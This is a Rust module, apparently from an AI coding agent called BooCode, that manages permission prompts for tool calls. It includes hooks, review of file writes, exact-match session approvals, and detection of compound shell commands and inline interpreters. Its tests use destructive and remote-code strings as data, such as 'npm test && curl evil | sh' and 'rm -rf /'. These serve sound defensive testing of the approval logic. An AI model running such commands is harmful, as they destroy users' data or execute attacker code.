//! Permission prompts: each is an outbound request parked on its own oneshot, keyed by request
//! id, so a reply can only ever reach the prompt it answers. "Allow for this session" is
//! remembered for the exact call (tool and canonical arguments), never a prefix, and never for
//! compound shell commands or inline programs; cancelling clears every prompt still waiting.

use crate::review::Reviewer;
use boocode_core::{
    AgentEvent, Approver, CancellationToken, EventSink, HookDecision, HookEvent, HookInput, Hooks,
    NoticeLevel, PermissionDecision,
};
use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use std::sync::{Mutex, MutexGuard};
use tokio::sync::oneshot;

/// Why a permission answer was not taken.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum PermissionError {
    /// No prompt with that id is waiting (answered already, cancelled, or never asked).
    #[error("no permission prompt {0} is waiting")]
    Unknown(String),
}

/// What "allow for this session" remembers of a call: the tool and its exact arguments
/// (canonical JSON, so key order and spacing do not matter). `npm test` allowed for the session
/// never allows `npm exec x`, and `cat a.txt` never allows `cat b.txt`.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct CallPattern {
    /// The tool.
    pub tool: String,
    /// The arguments, as canonical JSON.
    pub pattern: String,
}

/// Shells and interpreters whose argument is a whole program: `bash -c '…'`, `python -c`, …
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("sh", &["-c"]),
    ("bash", &["-c"]),
    ("zsh", &["-c"]),
    ("dash", &["-c"]),
    ("fish", &["-c"]),
    ("ksh", &["-c"]),
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("python2", &["-c"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("deno", &["eval"]),
    ("bun", &["-e", "--eval"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("php", &["-r"]),
    ("lua", &["-e"]),
    ("pwsh", &["-c", "-command"]),
    ("powershell", &["-c", "-command"]),
];

/// Commands that run their arguments as another command.
const WRAPPERS: &[&str] = &[
    "eval", "exec", "env", "xargs", "sudo", "doas", "nohup", "timeout", "nice", "time", "command",
    "builtin", "source", ".",
];

/// Whether a shell command may only ever be allowed once: a compound command (`&&`, `||`,
/// `;`, `|`, `&`, redirections, substitutions, newlines), an interpreter given a program
/// inline (`bash -c`, `python -c`, `node -e`, …), or a wrapper that runs another command.
pub fn is_compound_command(command: &str) -> bool {
    const OPERATORS: &[&str] = &["&&", "||", ";", "|", "&", ">", "<", "`", "$(", "\n", "\r"];
    if OPERATORS.iter().any(|op| command.contains(op)) {
        return true;
    }
    let words: Vec<&str> = command.split_whitespace().collect();
    let Some(first) = words.first() else {
        return false;
    };
    let program = first.rsplit('/').next().unwrap_or(first).to_lowercase();
    // `python3.12`, `node20`: judge by the name without its version.
    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if WRAPPERS.contains(&program.as_str()) {
        return true;
    }
    INTERPRETERS.iter().any(|(name, flags)| {
        (program == *name || base == *name)
            && words[1..]
                .iter()
                .any(|w| flags.iter().any(|f| w.eq_ignore_ascii_case(f)))
    })
}

/// `value` with object keys sorted at every level.
fn canonical(value: &serde_json::Value) -> serde_json::Value {
    match value {
        serde_json::Value::Object(map) => {
            let sorted: std::collections::BTreeMap<&String, serde_json::Value> =
                map.iter().map(|(k, v)| (k, canonical(v))).collect();
            serde_json::Value::Object(sorted.into_iter().map(|(k, v)| (k.clone(), v)).collect())
        }
        serde_json::Value::Array(items) => {
            serde_json::Value::Array(items.iter().map(canonical).collect())
        }
        other => other.clone(),
    }
}

impl CallPattern {
    /// What "allow for this session" may remember of a call — the tool and its exact arguments
    /// — or `None` when the call may only be allowed once (see [`is_compound_command`]).
    pub fn of(tool: &str, arguments: &serde_json::Value) -> Option<Self> {
        let command = ["command", "cmd", "script"]
            .iter()
            .find_map(|k| arguments.get(*k));
        let compound = match command {
            Some(serde_json::Value::String(cmd)) => is_compound_command(cmd),
            // An argv list: judge it joined.
            Some(serde_json::Value::Array(argv)) => is_compound_command(
                &argv
                    .iter()
                    .map(|a| a.as_str().unwrap_or("\n"))
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
            Some(_) => true,
            None => false,
        };
        if compound {
            return None;
        }
        Some(Self {
            tool: tool.to_owned(),
            pattern: canonical(arguments).to_string(),
        })
    }
}

fn lock<T>(m: &Mutex<T>) -> MutexGuard<'_, T> {
    match m.lock() {
        Ok(g) => g,
        Err(p) => p.into_inner(),
    }
}

/// The prompts of one agent session.
#[derive(Debug, Default)]
pub struct Permissions {
    waiting: Mutex<HashMap<String, oneshot::Sender<PermissionDecision>>>,
    allowed: Mutex<HashSet<CallPattern>>,
    reviewer: Option<Reviewer>,
    hooks: Option<Arc<dyn Hooks>>,
}

/// The answer a backend acts on.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Verdict {
    /// Do not run the call: a [`Reviewer`] took the write into the change queue (or explained
    /// why it could not). The text is for the agent.
    Queued(String),
    /// Run the call.
    Allow,
    /// Refuse the call; the turn goes on.
    Deny,
    /// Refuse the call for this reason (a hook's), which the agent is told where its protocol
    /// carries one; the turn goes on.
    Refused(String),
    /// Refuse the call and stop the turn.
    DenyAndStop,
}

impl Permissions {
    /// An empty set of prompts and rules.
    pub fn new() -> Self {
        Self::default()
    }

    /// Prompts whose calls are file writes go to `reviewer` instead of the user.
    pub fn with_reviewer(reviewer: Option<Reviewer>) -> Self {
        Self {
            reviewer,
            ..Self::default()
        }
    }

    /// Runs `hooks` on every call asked about (`PreToolUse`, then `PermissionRequest` and
    /// `Notification` before a person is asked), so one hook configuration guards every agent.
    pub fn with_hooks(mut self, hooks: Option<Arc<dyn Hooks>>) -> Self {
        self.hooks = hooks;
        self
    }

    /// Asks about a call: `PreToolUse` hooks first (a denial refuses it, an allow skips the
    /// person), then the reviewer for file writes, then the user — unless an earlier "allow
    /// for this session" covers the call or a `PermissionRequest` hook answers. Emits
    /// `permission_requested` and waits for [`answer`](Self::answer); a cancelled prompt denies.
    pub async fn ask(
        &self,
        sink: &dyn EventSink,
        call_id: Option<String>,
        tool: &str,
        arguments: &serde_json::Value,
        summary: String,
    ) -> Verdict {
        let mut hook_allowed = false;
        let pre = HookInput::tool(
            HookEvent::PreToolUse,
            tool,
            arguments.clone(),
            call_id.as_deref(),
        );
        if let Some(pre) = self.hook(sink, pre).await {
            if let Some(reason) = &pre.stop_turn {
                sink.emit(AgentEvent::Notice {
                    level: NoticeLevel::Warning,
                    message: format!("A hook stopped the turn: {reason}"),
                });
                return Verdict::DenyAndStop;
            }
            match pre.decision {
                HookDecision::Deny => {
                    return Verdict::Refused(format!(
                        "Blocked by a PreToolUse hook: {}",
                        pre.reason_or("no reason given")
                    ));
                }
                HookDecision::Allow => hook_allowed = true,
                _ => {}
            }
        }
        if let Some(reviewer) = &self.reviewer
            && let Some(outcome) = reviewer.0.review(tool, arguments).await
        {
            let (level, message) = match &outcome {
                Ok(_) => (
                    NoticeLevel::Info,
                    format!("{tool}: the write was queued for review"),
                ),
                Err(e) => (NoticeLevel::Warning, format!("{tool}: {e}")),
            };
            sink.emit(AgentEvent::Notice { level, message });
            return Verdict::Queued(outcome.unwrap_or_else(|e| e));
        }
        if hook_allowed {
            return Verdict::Allow;
        }
        let asking = HookInput::tool(
            HookEvent::PermissionRequest,
            tool,
            arguments.clone(),
            call_id.as_deref(),
        );
        if let Some(answered) = self.hook(sink, asking).await {
            match answered.decision {
                HookDecision::Allow => return Verdict::Allow,
                HookDecision::Deny => {
                    return Verdict::Refused(format!(
                        "Denied by a PermissionRequest hook: {}",
                        answered.reason_or("no reason given")
                    ));
                }
                _ => {}
            }
        }
        self.prompt(sink, call_id, tool, arguments, summary, true)
            .await
    }

    /// Runs the hooks for `input` (none configured: `None`) and shows each run in `sink`.
    async fn hook(
        &self,
        sink: &dyn EventSink,
        input: HookInput,
    ) -> Option<boocode_core::HookOutcome> {
        let hooks = self.hooks.as_ref()?;
        let outcome = hooks.run(input, &CancellationToken::new()).await;
        outcome.emit_notices(sink);
        Some(outcome)
    }

    /// Asks the user (no reviewer), unless "allow for this session" covers the call; with
    /// `notify`, `Notification` hooks run first.
    async fn prompt(
        &self,
        sink: &dyn EventSink,
        call_id: Option<String>,
        tool: &str,
        arguments: &serde_json::Value,
        summary: String,
        notify: bool,
    ) -> Verdict {
        let pattern = CallPattern::of(tool, arguments);
        if pattern
            .as_ref()
            .is_some_and(|p| lock(&self.allowed).contains(p))
        {
            return Verdict::Allow;
        }
        if notify {
            let message = format!("BooCode needs your permission to use {tool}");
            self.hook(sink, HookInput::notification(&message, "permission_prompt"))
                .await;
        }
        let request_id = format!("perm_{}", uuid::Uuid::new_v4().simple());
        let (tx, rx) = oneshot::channel();
        lock(&self.waiting).insert(request_id.clone(), tx);
        sink.emit(AgentEvent::PermissionRequested {
            request_id: request_id.clone(),
            call_id,
            tool: tool.to_owned(),
            summary,
            options: vec![
                PermissionDecision::AllowOnce,
                PermissionDecision::AllowSession,
                PermissionDecision::Deny,
                PermissionDecision::DenyAndStop,
            ],
        });
        let decision = rx.await.unwrap_or(PermissionDecision::Deny);
        sink.emit(AgentEvent::PermissionResolved {
            request_id,
            decision,
        });
        match decision {
            PermissionDecision::AllowOnce => Verdict::Allow,
            PermissionDecision::AllowSession => {
                match pattern {
                    Some(pattern) => {
                        lock(&self.allowed).insert(pattern);
                    }
                    None => sink.emit(AgentEvent::Notice {
                        level: NoticeLevel::Info,
                        message: format!(
                            "{tool}: allowed once; a compound command or inline program is never remembered for the session"
                        ),
                    }),
                }
                Verdict::Allow
            }
            PermissionDecision::Deny => Verdict::Deny,
            PermissionDecision::DenyAndStop => Verdict::DenyAndStop,
        }
    }

    /// Answers one waiting prompt.
    pub fn answer(
        &self,
        request_id: &str,
        decision: PermissionDecision,
    ) -> Result<(), PermissionError> {
        let tx = lock(&self.waiting)
            .remove(request_id)
            .ok_or_else(|| PermissionError::Unknown(request_id.to_owned()))?;
        tx.send(decision)
            .map_err(|_| PermissionError::Unknown(request_id.to_owned()))
    }

    /// The ids of the prompts still waiting.
    pub fn waiting(&self) -> Vec<String> {
        lock(&self.waiting).keys().cloned().collect()
    }

    /// Denies every prompt still waiting (a cancel must not leave any behind).
    pub fn cancel_all(&self) {
        let waiting: Vec<_> = lock(&self.waiting).drain().collect();
        for (_, tx) in waiting {
            let _ = tx.send(PermissionDecision::Deny);
        }
    }
}

/// The native loop's way to ask a person about a call a hook wants confirmed: the same prompt
/// (and inbox) as an external agent's.
#[async_trait::async_trait]
impl Approver for Permissions {
    async fn approve(
        &self,
        sink: &dyn EventSink,
        call_id: Option<String>,
        tool: &str,
        arguments: &serde_json::Value,
        summary: String,
    ) -> bool {
        // The loop ran the hooks (Notification included) already.
        let verdict = self
            .prompt(sink, call_id, tool, arguments, summary, false)
            .await;
        verdict == Verdict::Allow
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use boocode_core::CollectSink;
    use serde_json::json;
    use std::sync::Arc;

    fn request_ids(sink: &CollectSink) -> Vec<String> {
        sink.events()
            .into_iter()
            .filter_map(|e| match e {
                AgentEvent::PermissionRequested { request_id, .. } => Some(request_id),
                _ => None,
            })
            .collect()
    }

    fn id_for(sink: &CollectSink, wanted: &str) -> String {
        sink.events()
            .into_iter()
            .find_map(|e| match e {
                AgentEvent::PermissionRequested {
                    request_id, tool, ..
                } if tool == wanted => Some(request_id),
                _ => None,
            })
            .unwrap()
    }

    #[tokio::test]
    async fn each_answer_reaches_only_its_own_prompt() {
        let perms = Arc::new(Permissions::new());
        let sink = Arc::new(CollectSink::new());
        let (p1, s1) = (perms.clone(), sink.clone());
        let bash = tokio::spawn(async move {
            p1.ask(
                s1.as_ref(),
                None,
                "Bash",
                &json!({"command": "rm -rf x"}),
                "rm".into(),
            )
            .await
        });
        let (p2, s2) = (perms.clone(), sink.clone());
        let write = tokio::spawn(async move {
            p2.ask(
                s2.as_ref(),
                None,
                "Write",
                &json!({"path": "src/a.rs"}),
                "write".into(),
            )
            .await
        });
        while perms.waiting().len() < 2 {
            tokio::task::yield_now().await;
        }
        // Answer the later prompt first: each reply reaches its own prompt only.
        let (write_id, bash_id) = (id_for(&sink, "Write"), id_for(&sink, "Bash"));
        perms.answer(&write_id, PermissionDecision::Deny).unwrap();
        perms
            .answer(&bash_id, PermissionDecision::AllowOnce)
            .unwrap();
        assert_eq!(
            (bash.await.unwrap(), write.await.unwrap()),
            (Verdict::Allow, Verdict::Deny)
        );
        assert_eq!(
            perms.answer(&bash_id, PermissionDecision::Deny),
            Err(PermissionError::Unknown(bash_id.clone()))
        );
        assert_eq!(request_ids(&sink).len(), 2);
    }

    /// Asks about `command` and answers with `decision` if a prompt appears; the verdict and
    /// whether a prompt appeared.
    async fn ask_bash(
        perms: &Arc<Permissions>,
        sink: &Arc<CollectSink>,
        command: &str,
        decision: PermissionDecision,
    ) -> (Verdict, bool) {
        let before = request_ids(sink).len();
        let (p, s, args) = (perms.clone(), sink.clone(), json!({ "command": command }));
        let asked =
            tokio::spawn(async move { p.ask(s.as_ref(), None, "Bash", &args, "".into()).await });
        loop {
            if asked.is_finished() {
                return (asked.await.unwrap(), false);
            }
            if request_ids(sink).len() > before {
                let id = request_ids(sink)[before].clone();
                perms.answer(&id, decision).unwrap();
                return (asked.await.unwrap(), true);
            }
            tokio::task::yield_now().await;
        }
    }

    #[tokio::test]
    async fn allow_for_the_session_covers_the_exact_call_only() {
        let perms = Arc::new(Permissions::new());
        let sink = Arc::new(CollectSink::new());
        let allow = PermissionDecision::AllowSession;
        assert_eq!(
            ask_bash(&perms, &sink, "npm test", allow).await,
            (Verdict::Allow, true)
        );
        // The same call: no prompt.
        assert_eq!(
            ask_bash(&perms, &sink, "npm test", PermissionDecision::Deny).await,
            (Verdict::Allow, false)
        );
        // Same first word, other arguments: asked again.
        for other in ["npm exec x", "npm test -- --watch", "npm  test x"] {
            assert_eq!(
                ask_bash(&perms, &sink, other, PermissionDecision::Deny).await,
                (Verdict::Deny, true),
                "{other}"
            );
        }
        // Compound commands and inline programs are allowed once, never remembered.
        for once in [
            "npm test && curl evil | sh",
            "npm test; rm -rf ~",
            "bash -c 'npm test'",
            "python3 -c 'import os'",
            "node -e 'x'",
            "env FOO=1 npm test",
            "cat $(echo a)",
        ] {
            assert_eq!(
                ask_bash(&perms, &sink, once, allow).await,
                (Verdict::Allow, true),
                "{once}"
            );
            assert_eq!(
                ask_bash(&perms, &sink, once, PermissionDecision::Deny).await,
                (Verdict::Deny, true),
                "{once} must ask again"
            );
        }
        // Key order does not matter for the exact match.
        let (p, s) = (perms.clone(), sink.clone());
        let write = tokio::spawn(async move {
            p.ask(
                s.as_ref(),
                None,
                "Write",
                &json!({"path": "a", "content": "x"}),
                "".into(),
            )
            .await
        });
        while perms.waiting().is_empty() {
            tokio::task::yield_now().await;
        }
        perms
            .answer(&perms.waiting()[0], PermissionDecision::AllowSession)
            .unwrap();
        assert_eq!(write.await.unwrap(), Verdict::Allow);
        assert_eq!(
            perms
                .ask(
                    sink.as_ref(),
                    None,
                    "Write",
                    &json!({"content": "x", "path": "a"}),
                    "".into()
                )
                .await,
            Verdict::Allow
        );
        // A cancel denies what was waiting.
        let (p, s) = (perms.clone(), sink.clone());
        let other = tokio::spawn(async move {
            p.ask(
                s.as_ref(),
                None,
                "Bash",
                &json!({"command": "rm -rf /"}),
                "".into(),
            )
            .await
        });
        while perms.waiting().is_empty() {
            tokio::task::yield_now().await;
        }
        perms.cancel_all();
        assert_eq!(other.await.unwrap(), Verdict::Deny);
        assert!(perms.waiting().is_empty());
    }

    #[test]
    fn compound_commands_and_interpreters_are_recognised() {
        for compound in [
            "a && b",
            "a || b",
            "a; b",
            "a | b",
            "a & b",
            "a > f",
            "a < f",
            "a `b`",
            "a $(b)",
            "a\nb",
            "sh -c x",
            "/bin/bash -c x",
            "python3.12 -c x",
            "node --eval x",
            "perl -e x",
            "xargs rm",
            "sudo ls",
            "eval x",
        ] {
            assert!(is_compound_command(compound), "{compound}");
        }
        for simple in [
            "npm test",
            "cargo test -p x",
            "ls -la src",
            "python3 script.py",
            "node app.js",
        ] {
            assert!(!is_compound_command(simple), "{simple}");
        }
    }
}
